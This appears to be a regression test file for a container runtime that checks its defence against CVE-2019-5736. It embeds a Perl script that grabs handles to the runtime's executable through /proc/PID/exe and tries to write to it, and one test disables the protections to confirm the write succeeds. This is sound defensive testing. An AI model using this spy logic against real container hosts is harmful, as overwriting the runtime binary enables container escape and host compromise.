import assert from 'node:assert/strict';
import { chmodSync, existsSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { canaries } from '../attack.js';
import { attacks, bundle, type How, noSwitch, rounds, run, started } from './attack.js';
import { perl } from './perl.js';

/**
 * CVE-2019-5736: whoever executes in a container can be opened there through /proc/PID/exe, and once it no longer runs, be
 * written. The spy keeps a handle (O_PATH) of every executable that is not the container's own and writes it afterwards.
 * Arguments: device and inode of node.
 */
const SPY = `
my ($dev, $ino) = @ARGV; my (%kept, %seen);
print "ready: yes\\n";
until (-e '/stop') {
  for my $pid (grep { $_ ne $$ && /^\\d+$/ } do { opendir(my $d, '/proc'); readdir $d }) {
    my $fd = sys('openat', -100, "/proc/$pid/exe", 0x200000, 0);
    next unless $fd =~ /^\\d+$/;
    my $link = readlink("/proc/self/fd/$fd") // ''; my @s = stat "/proc/self/fd/$fd";
    if ($s[0] == $dev && $s[1] == $ino) { told 'node', 'REACHED' unless $seen{node}++ }
    if ($link =~ /memfd|runc/ && !$kept{"$s[0]:$s[1]"}) { $kept{"$s[0]:$s[1]"} = $fd; told 'image', "SEEN $link" }
    else { sys('close', $fd) }
  }
  for my $which (keys %kept) {
    for my $mode (1, 2) {
      next if $seen{"$which-$mode"};
      my $h = opened("/proc/self/fd/$kept{$which}", $mode);
      if (ref $h) { $seen{"$which-$mode"}++; told 'write', syswrite($h, "#") ? 'WRITTEN' : name() }
      else { told 'open', $h unless $seen{"$which-$mode-$h"}++ }
    }
  }
}
print "end: yes\\n";
`;

function entry(rootfs: string): void {
  writeFileSync(join(rootfs, 'entry'), '#!/proc/self/exe\n');
  chmodSync(join(rootfs, 'entry'), 0o755);
}

/** Many commands and one with the interpreter `/proc/self/exe` enter a container in which the spy is waiting: what it said. */
async function spied(how: How): Promise<string> {
  const { dev, ino } = statSync(process.execPath);
  const target = bundle((config, rootfs) => {
    entry(rootfs);
    config.process.args = perl(SPY, String(dev), String(ino));
  });
  const container = started(target, how);
  try {
    await container.says('ready: yes');
    for (let round = 0; round < rounds(8); round++) {
      container.exec([round % 2 === 0 ? '/entry' : 'true'], [], how);
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
    writeFileSync(join(target.rootfs, 'stop'), '');
    await container.says('end: yes');
    return container.output();
  } finally {
    container.stop();
  }
}

attacks(import.meta.url, 'R01: the runtime through /proc/PID/exe', () => {
  test("R01: neither node nor the program's image can be written through /proc/PID/exe", async () => {
    const machine = await canaries();
    try {
      const said = await spied({});
      assert.doesNotMatch(said, /REACHED|WRITTEN/);
      machine.check();
    } finally {
      machine.close();
    }
  });

  test('R01: an entrypoint interpreted by /proc/self/exe runs nothing of the machine', async () => {
    const machine = await canaries();
    try {
      const done = run(
        bundle((config, rootfs) => {
          entry(rootfs);
          config.process.args = ['/entry', 'run', '/entry'];
        }),
        { timeoutMs: 45_000 },
      );
      assert.equal(done.timedOut, false, 'it hangs');
      assert.notEqual(done.status, 0, 'something ran');
      machine.check();
    } finally {
      machine.close();
    }
  });

  test('R01 twin: an image that is not sealed is written', { skip: noSwitch }, async () => {
    const said = await spied({ off: ['sealed-exe', 'non-dumpable'] });
    assert.match(said, /WRITTEN/);
    assert.ok(existsSync(process.execPath), 'node is gone');
  });
});
